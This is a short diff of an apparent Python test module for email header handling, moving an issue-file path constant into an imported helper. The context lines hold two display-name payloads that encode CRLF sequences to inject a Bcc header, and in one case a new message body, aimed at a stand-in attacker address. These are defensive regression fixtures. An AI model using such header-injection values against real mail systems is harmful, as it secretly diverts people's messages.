@@ -17,10 +17,10 @@ from email import policy
 from pathlib import Path
 
 import pytest
+from support.issues import SEPTEMBER
 
 from .smtp_sink import SmtpSink
 
-SEPTEMBER = "issues/2025-09-regional-update.yaml"
 #: The rows from the issue: a Bcc header, then the same with a blank line (a new body).
 BCC_NAME = "Fay =?utf-8?q?=0D=0ABcc=3A_evil3=40attacker=2Eexample?="
 BODY_NAME = "Fay =?utf-8?q?=0D=0A=0D=0ABcc=3A_evil3=40attacker=2Eexample?="
